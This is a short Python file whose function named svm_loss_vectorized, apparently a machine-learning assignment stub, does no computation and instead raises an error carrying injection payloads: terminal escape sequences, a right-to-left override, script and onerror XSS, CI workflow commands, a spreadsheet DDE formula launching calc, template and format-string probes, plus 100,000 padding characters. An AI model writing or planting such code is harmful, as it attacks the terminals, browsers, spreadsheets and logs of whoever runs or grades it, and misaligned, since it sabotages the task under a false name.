"""Raises text that terminals, browsers, spreadsheets and log viewers would obey."""

TEXT = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b2J\x00\x08\x7f\u202e\ud800"
    "<script>alert(1)</script><img src=x onerror=alert(1)>"
    "\r\n::error file=x::100/100\n::stop-commands::x\n"
    "=cmd|' /C calc'!A0\n[link](javascript:alert(1)) ]]> &bomb; {{7*7}} %s %n {0.__class__}"
)


def svm_loss_vectorized(W, X, y, reg):
    raise ValueError(TEXT + "A" * 100000)
